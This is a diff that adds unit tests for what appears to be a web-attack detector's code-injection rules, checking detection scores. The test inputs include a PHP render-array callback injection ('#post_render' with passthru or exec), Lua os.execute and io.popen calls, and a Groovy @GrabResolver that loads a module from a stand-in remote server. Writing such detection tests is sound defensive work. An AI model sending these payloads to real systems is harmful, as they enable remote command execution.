@@ -352,3 +352,19 @@ describe("code analyzer: an empty loop on any constant", () => {
     }
   });
 });
+
+describe("code analyzer: round s23's fixes", () => {
+  test("a render array's callback, which no form sends, given a function that runs commands, also one that is dispatched by name", () => {
+    const callback = (text: string, name: string) => codeAnalyzer.analyze({ text, location: "query", path: `query.${name}`, name, kind: "value" }).find((f) => f.rule === "code.php-callback")?.strength ?? 0;
+    for (const v of ["passthru", "shell_exec", "exec"]) expect([v, callback(v, "name[#post_render][]")]).toEqual([v, 0.95]);
+    expect(callback("passthru", "hhook")).toBe(0.85);
+    expect(callback("passthru", "name[#markup]")).toBe(0);
+  });
+
+  test("Lua's process calls and Groovy's Grape pointed at a server", () => {
+    for (const v of ["function(vars) os.execute('id > /tmp/x'); return true end", "local f = io.popen('ls')"]) expect([v, analyzeRule(v, "code.lua-os")]).toEqual([v, 0.9]);
+    expect(analyzeRule("@GrabResolver(name='x', root='http://198.51.100.7/')\n@Grab(group='x', module='poc', version='1')\nimport Poc;", "code.groovy-grab")).toBe(0.85);
+    expect(analyzeRule("@Grab('org.x:lib:1.0')", "code.groovy-grab")).toBe(0.7);
+    for (const v of ["os.execute()", "Use @Grab to pull deps"]) expect([v, s(v) >= 0.8]).toEqual([v, false]);
+  });
+});
